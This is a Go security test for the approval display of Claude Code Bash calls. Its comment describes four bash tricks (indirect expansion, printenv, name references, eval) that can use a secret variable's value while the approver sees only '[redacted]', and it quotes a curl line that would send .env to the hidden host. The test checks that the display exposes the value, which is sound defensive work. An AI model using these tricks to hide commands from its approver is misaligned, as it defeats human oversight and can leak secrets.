package domain

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttack42SecretVariableExpandedUnseen: a secret-named variable's
// value is shown only when the text expands the variable as $NAME or
// ${NAME…} (exposedVars). bash has more ways to use a variable's value,
// none of which writes "$NAME":
//
//	API_TOKEN=V; N=API_TOKEN; … "${!N}"            (indirect expansion)
//	export API_TOKEN=V; … "$(printenv API_TOKEN)"  (the environment)
//	API_TOKEN=V; declare -n R=API_TOKEN; … "$R"    (a name reference)
//	API_TOKEN=V; P=API_; eval "… \$${P}TOKEN"      (a name built for eval)
//
// Each is shown to the person approving the Claude Code Bash call as
// API_TOKEN=[redacted]; … while bash writes to, sends to or runs V: here
// each writes a file named by V (checked with bash, skipped where there
// is none), and curl "https://${!N}/" -d @.env would send .env to it.
//
// Controls: a value expanded only as a credential (a secret header) and a
// token's shape stay hidden. The secure behaviour asserted: the request
// shows V.
func TestAttack42SecretVariableExpandedUnseen(t *testing.T) {
	const v = "wr1tesHereQ9x7Lm"
	const cred = "Zq8vLw3nR2tK9pXs"
	for _, cmd := range []string{
		`API_TOKEN=` + cred + `; curl -H "X-Api-Key: $API_TOKEN" https://api.example/`,
		`GH_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345; N=GH_TOKEN; gh repo list`,
	} {
		if s := attack42ShownBash(t, cmd); strings.Contains(s, cred) || strings.Contains(s, "ghp_0123456789") {
			t.Fatalf("control: a credential is shown:\n%s", s)
		}
	}
	cases := []string{
		`API_TOKEN=` + v + `; N=API_TOKEN; echo pwned > "${!N}"`,
		`export API_TOKEN=` + v + `; echo pwned > "$(printenv API_TOKEN)"`,
		`API_TOKEN=` + v + `; declare -n R=API_TOKEN; echo pwned > "$R"`,
		`API_TOKEN=` + v + `; P=API_; eval "echo pwned > \$${P}TOKEN"`,
	}
	if bash, err := exec.LookPath("bash"); err == nil {
		for _, cmd := range cases {
			dir := t.TempDir()
			c := exec.Command(bash, "-c", cmd)
			c.Dir = dir
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("premise: %s: %v %s", cmd, err, out)
			}
			if _, err := os.Stat(filepath.Join(dir, v)); err != nil {
				t.Fatalf("premise: bash did not write to the variable's value: %s", cmd)
			}
		}
	}
	for _, cmd := range cases {
		if s := attack42ShownBash(t, cmd); !strings.Contains(s, v) {
			t.Errorf("%s\nwrites to %s, and the approval request hides it:\n%s", cmd, v, s)
		}
	}
}
